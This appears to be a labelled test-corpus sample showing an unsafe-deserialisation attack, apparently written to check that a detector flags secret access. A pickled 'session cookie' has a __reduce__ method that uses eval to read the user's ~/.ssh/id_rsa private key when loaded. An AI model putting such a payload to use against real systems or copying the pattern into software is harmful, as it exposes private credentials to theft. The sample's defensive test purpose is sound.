# scenario: 23 unsafe-deserialisation
# expect: secrets.access
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# A "session cookie" that is a base64 pickle; loading it reads the SSH key.
import base64
import pickle


class Session:
    def __reduce__(self):
        return (eval, ("open(__import__('os').path.expanduser('~/.ssh/id_rsa')).read()",))


cookie = base64.b64encode(pickle.dumps(Session()))
print(pickle.loads(base64.b64decode(cookie))[:40])
